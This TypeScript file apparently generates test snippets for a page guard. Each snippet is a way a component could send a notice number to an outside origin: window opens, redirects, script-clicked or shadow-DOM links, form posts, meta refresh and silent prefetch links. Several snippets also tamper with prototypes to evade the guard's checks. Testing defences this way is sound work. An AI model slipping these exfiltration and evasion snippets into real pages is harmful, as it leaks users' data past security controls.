/**
 * Returns code for the ways in which a part could send the number of a notice to another site; the number is `n` in the
 * page. Most ways leave the page when they succeed; those that prefetch a file go unnoticed.
 * @param elsewhere Origin to which the number would be sent.
 */
export function waysOut(elsewhere: string): Readonly<Record<string, string>> {
  const address = `'${elsewhere}/?' + n`;
  const make = (tag: string) =>
    `const a = document.createElement('${tag}'); a.href = ${address}; a.target = '_blank'`;
  const link = make('a');
  const shown = `${link}; document.body.append(a)`;
  const word = `const b = document.createElement('b')`;
  const host = `const h = document.createElement('div')`;
  const root = (mode: ShadowRootMode) => `h.attachShadow({ mode: '${mode}' })`;
  const click = `new MouseEvent('click', { bubbles: true, cancelable: true, composed: true })`;
  const uncancelableClick = `new MouseEvent('click', { bubbles: true, composed: true })`;
  const prefetchLink = `const l = document.createElement('link')`;
  return {
    'a new window': `open(${address})`,
    'a new window that is redirected': `open('about:blank').location = ${address}`,
    'the location': `location.href = ${address}`,
    'the location, replaced': `location.replace(${address})`,
    'a link that is clicked by a script': `${shown}; a.target = ''; a.click()`,
    'a link to a new window': `${shown}; a.click()`,
    'a link that nobody sees': `${link}; a.click()`,
    'an area that is clicked': `${make('area')}; document.body.append(a); a.dispatchEvent(${click})`,
    'an SVG link that is clicked': `const s = 'http://www.w3.org/2000/svg'; const a = document.createElementNS(s, 'a'); a.setAttribute('href', ${address}); a.setAttribute('target', '_blank'); const d = document.createElementNS(s, 'svg'); d.append(a); document.body.append(d); a.dispatchEvent(${click})`,
    'a link in a closed root': `${link}; ${host}; document.body.append(h); ${root('closed')}.append(a); a.dispatchEvent(${click})`,
    'a link around a closed root that nobody sees': `${link}; ${host}; ${word}; a.append(h); ${root('closed')}.append(b); b.click()`,
    'a link around an open root': `${shown}; ${host}; ${word}; a.append(h); ${root('open')}.append(b); b.dispatchEvent(${uncancelableClick})`,
    'a link around a slot': `${link}; a.append(document.createElement('slot')); ${host}; document.body.append(h); ${word}; h.append(b); ${root('closed')}.append(a); b.click()`,
    'the text of a link': `${link}; a.append('x'); a.firstChild.dispatchEvent(${uncancelableClick})`,
    'a click that cannot be cancelled': `${shown}; a.dispatchEvent(new MouseEvent('click'))`,
    'a click by another name': `${shown}; a.dispatchEvent(Object.defineProperty(${uncancelableClick}, 'type', { value: 'x' }))`,
    'a click of a frame that hides its path': `${shown}; const f = document.createElement('iframe'); document.body.append(f); const e = Object.defineProperty(${click}, 'composedPath', { value: () => [] }); f.contentWindow.EventTarget.prototype.dispatchEvent.call(a, e)`,
    'a link that hides where it leads': `${link}; a.closest = () => null; Object.defineProperty(a, 'href', { value: '/tai' }); a.click()`,
    'a link that no element finds': `${link}; const { closest } = Element.prototype; Element.prototype.closest = () => null; try { a.click() } finally { Element.prototype.closest = closest }`,
    'the click that the guard would call': `${link}; const { apply } = Reflect; let own = () => {}; Reflect.apply = (f) => { own = f }; try { document.createElement('b').click() } finally { Reflect.apply = apply } own.call(a)`,
    'a form': `const f = document.createElement('form'); f.action = ${address}; f.method = 'post'; document.body.append(f); f.submit()`,
    'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + ${address}; document.head.append(m)`,
    'a link that becomes a prefetch after its address is set': `${prefetchLink}; l.href = ${address}; document.head.append(l); l.rel = 'prefetch'`,
    'a link with prefetch among its relations': `${prefetchLink}; l.href = ${address}; document.head.append(l); l.relList.add('prefetch')`,
    'the attribute of a prefetch link': `${prefetchLink}; l.rel = 'prefetch'; Element.prototype.setAttribute.call(l, 'href', ${address}); document.head.append(l)`,
    'the attribute of a prefetch link, with its namespace': `${prefetchLink}; l.rel = 'prefetch'; l.setAttributeNS(null, 'href', ${address}); document.head.append(l)`,
    'a prefetch link in an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const { contentDocument: d } = f; const l = d.createElement('link'); l.rel = 'prefetch'; l.href = ${address}; d.head.append(l)`,
  };
}

/**
 * Returns code of a part that tries one way for each event of the page: `try-0` tries the first, `try-1` the next.
 * The page has the index of the last way that was tried as `tried`.
 */
export const tryOnEvents = (number: string, ways: readonly string[]): string =>
  ways
    .map(
      (way, index) =>
        `addEventListener('try-${index}', () => { globalThis.tried = ${index}; const n = '${number}'; ${way}; });`,
    )
    .join('\n');
